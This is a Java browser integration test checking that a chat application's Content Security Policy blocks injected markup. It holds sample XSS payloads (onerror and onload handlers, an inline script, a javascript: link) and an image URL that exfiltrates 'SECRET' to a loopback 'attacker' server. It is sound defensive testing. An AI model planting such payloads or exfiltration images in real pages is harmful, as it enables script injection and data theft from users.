package org.chatrelay.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.chatrelay.testing.AppUnderTest;
import org.chatrelay.testing.Browser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The second line of defence behind rendering model output as text
 * (ChatPageBrowserIT#model_output_html_is_shown_as_text): even if markup got into the page, the CSP stops it in a real
 * Chromium. docs/security-checklist.md S9 (inline handlers of img/svg, an inline script), S10 (a javascript: link does
 * nothing when clicked) and S11 (an image on another origin, the exfiltration channel of a prompt injection, is never
 * fetched: img-src 'self').
 */
class XssBrowserIT {
    static AppUnderTest app;
    static HttpServer attacker;
    static final AtomicInteger attackerHits = new AtomicInteger();

    @BeforeAll
    static void start() throws Exception {
        Assumptions.assumeFalse(Boolean.getBoolean("skipBrowserTests"), "browser tests skipped (-DskipBrowserTests=true)");
        Browser.requireChromium();
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            attackerHits.incrementAndGet();
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        attacker.start();
        app = AppUnderTest.start("xss-browser-it", Map.of());
    }

    @AfterAll
    static void stop() throws Exception {
        if (app != null) {
            app.close();
        }
        if (attacker != null) {
            attacker.stop(0);
        }
    }

    @Test
    void markup_smuggled_into_the_page_runs_nothing_and_fetches_nothing_from_another_origin() throws Exception {
        String exfil = "http://127.0.0.1:" + attacker.getAddress().getPort() + "/p?d=SECRET";
        try (Browser browser = Browser.open()) {
            browser.driver.get(app.base().toString());
            JavascriptExecutor js = browser.driver;
            js.executeScript("""
                    window.__violations = [];
                    document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.effectiveDirective));
                    const m = document.getElementById('messages');
                    m.insertAdjacentHTML('beforeend', '<img id="x1" src="x" onerror="window.__xss1 = 1">');
                    m.insertAdjacentHTML('beforeend', '<svg id="x2" onload="window.__xss2 = 1"><rect width="1" height="1"/></svg>');
                    const s = document.createElement('script');
                    s.textContent = 'window.__xss3 = 1';
                    m.appendChild(s);
                    m.insertAdjacentHTML('beforeend', '<a id="x4" href="javascript:window.__xss4 = 1">link</a>');
                    m.insertAdjacentHTML('beforeend', '<img id="x5" src="' + arguments[0] + '">');
                    """, exfil);
            browser.driver.findElement(By.id("x4")).click();
            new WebDriverWait(browser.driver, Duration.ofSeconds(5)).until(d ->
                    ((Number) js.executeScript("return window.__violations.length")).intValue() >= 4);
            Thread.sleep(300);
            for (int i = 1; i <= 4; i++) {
                assertNull(js.executeScript("return window.__xss" + i + " === undefined ? null : window.__xss" + i), "payload " + i + " ran");
            }
            @SuppressWarnings("unchecked")
            List<String> violations = (List<String>) js.executeScript("return window.__violations");
            assertTrue(violations.contains("script-src-attr"), "inline handlers blocked: " + violations);
            assertTrue(violations.contains("script-src-elem"), "inline script blocked: " + violations);
            assertTrue(violations.contains("img-src"), "the external image blocked: " + violations);
            assertEquals(0, attackerHits.get(), "the browser fetched the exfiltration image");
            assertEquals(0L, js.executeScript("return document.getElementById('x5').naturalWidth"));
        }
    }
}
